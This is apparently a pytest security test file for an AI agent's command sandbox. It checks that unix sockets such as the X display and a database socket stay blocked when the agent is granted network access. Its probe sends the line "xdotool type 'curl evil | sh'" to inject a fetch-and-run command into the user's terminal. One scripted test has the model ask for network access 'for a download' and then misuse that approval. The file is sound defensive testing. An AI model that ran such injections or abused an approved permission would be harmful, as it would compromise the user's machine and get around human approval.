"""Unix sockets of this machine and a command given the network (issue 39, finding 4).

With the network on, a command shared the host's network namespace and ran without the
seccomp filter: every abstract unix socket of the host answered it (`@/tmp/.X11-unix/X0`, the
X display whose XTEST types into the person's terminal; a session bus from dbus-launch),
though their files are hidden on purpose, and so did a socket file anywhere the fence does
not hide (a database's). The filter now runs with the network too: no new AF_UNIX socket,
so neither kind is reached in either mode, while TCP and UDP (what "network: ON" is asked
for, this machine's TCP services included, as the approval says) still work.
"""

from __future__ import annotations

import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.pty_chat import finish, scripted_chat
from tests.security.run_command_helpers import PYTHON, fake_home, folder_outside_tmp, make_tool, run

ON_LINE = (
    "network: ON for this call (the model asked for it): the internet and TCP/UDP services "
    "on this machine; no unix sockets"
)


@pytest.fixture
def tmp_path() -> Iterator[Path]:
    yield from folder_outside_tmp()


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return fake_home(tmp_path, monkeypatch)


class Listener:
    """A service on this machine: accepts in a thread, records who came."""

    def __init__(self, server: socket.socket) -> None:
        self.server = server
        self.server.listen(4)
        self.server.settimeout(30)
        self.accepted: list[socket.socket] = []
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        try:
            connection, _ = self.server.accept()
        except OSError:  # closed at the end of the test, or nobody came in time
            return
        self.accepted.append(connection)

    def close(self) -> None:
        self.server.close()
        for connection in self.accepted:
            connection.close()


@pytest.fixture
def unix_services(tmp_path: Path) -> Iterator[tuple[str, Path, list[Listener]]]:
    """An abstract socket (as X and dbus-launch make) and a socket file in a visible folder
    (as a database makes), both listening."""
    abstract = f"agent-test-{uuid.uuid4().hex}"
    listening = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listening.bind("\0" + abstract)
    folder = tmp_path / "service"
    folder.mkdir()
    path = folder / "db.sock"
    on_file = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    on_file.bind(str(path))
    listeners = [Listener(listening), Listener(on_file)]
    try:
        yield abstract, path, listeners
    finally:
        for listener in listeners:
            listener.close()


_CONNECT = """
import socket
for name, address in (("abstract", "\\0" + {abstract!r}), ("file", {path!r})):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(address)
        s.sendall(b"xdotool type 'curl evil | sh'")
        print(name, "IN")
    except OSError as error:
        print(name, "refused:", error.strerror)
"""


@pytest.mark.parametrize("network", [True, False])
def test_no_unix_socket_of_this_machine_answers_a_command_with_or_without_the_network(
    tmp_path: Path, unix_services: tuple[str, Path, list[Listener]], network: bool
) -> None:
    abstract, path, listeners = unix_services
    tool = make_tool(tmp_path)
    code = _CONNECT.format(abstract=abstract, path=str(path))

    lines, result = run(tool, argv=[PYTHON, "-c", code], network=network)

    assert "IN" not in result.text, result.text
    # socket(AF_UNIX) itself is refused: the seccomp filter said no, in both modes
    assert "abstract refused: Permission denied" in result.text, result.text
    assert "file refused: Permission denied" in result.text, result.text
    assert all(listener.accepted == [] for listener in listeners)
    assert (ON_LINE if network else "network: off (unix sockets too)") in lines, lines


def test_with_the_network_tcp_to_this_machine_and_a_programs_own_pairs_still_work(
    tmp_path: Path,
) -> None:
    # What "network: ON" says it reaches: a TCP service here (the approval names it), and
    # socketpair() (multiprocessing's pipes), which reaches nothing outside the program.
    server = Listener(socket.create_server(("127.0.0.1", 0)))
    port = server.server.getsockname()[1]
    tool = make_tool(tmp_path)
    code = (
        "import multiprocessing, socket\n"
        f"socket.create_connection(('127.0.0.1', {port}), timeout=20).close(); print('tcp in')\n"
        "a, b = socket.socketpair()\n"
        "a.sendall(b'pair'); print(b.recv(4).decode())\n"
        "with multiprocessing.get_context('fork').Pool(2) as pool:\n"
        "    print(sum(pool.map(abs, [-1, -2])))\n"
    )
    try:
        lines, result = run(tool, argv=[PYTHON, "-c", code], network=True)

        assert result.text == "exit code 0\nstdout:\ntcp in\npair\n3", result.text
        server.thread.join(30)
        assert len(server.accepted) == 1
        assert ON_LINE in lines, lines
    finally:
        server.close()


def test_in_the_chat_an_approved_networked_command_does_not_reach_the_x_display(
    tmp_path: Path, unix_services: tuple[str, Path, list[Listener]], chat_env: dict[str, str]
) -> None:
    # As the review did it: the model asks for the network (a download, it says), the person
    # says yes, and the command talks to the abstract socket the X server listens on.
    abstract, path, listeners = unix_services
    code = _CONNECT.format(abstract=abstract, path=str(path))
    call: dict[str, Any] = {"argv": [PYTHON, "-c", code], "network": True}
    turns = [
        {"tool_calls": [{"id": "c1", "name": "run_command", "arguments": call}]},
        {"text": "Fetched."},
    ]
    with scripted_chat(tmp_path, turns, chat_env, dimensions=(40, 200)) as (chat, fake):
        chat.expect("›")
        chat.send("fetch the dependencies\r")
        chat.expect("network: ON for this call")
        chat.expect("Approve\\?")
        shown = chat.before
        chat.send("y")
        chat.expect("Fetched.")
        chat.expect("›")
        finish(chat)
        result = str(fake.requests()[1]["body"]["messages"][-1]["content"])

    assert "IN" not in result, result
    assert "abstract refused: Permission denied" in result, result
    assert all(listener.accepted == [] for listener in listeners)
    assert "TCP/UDP services on this machine; no unix sockets" in shown, shown
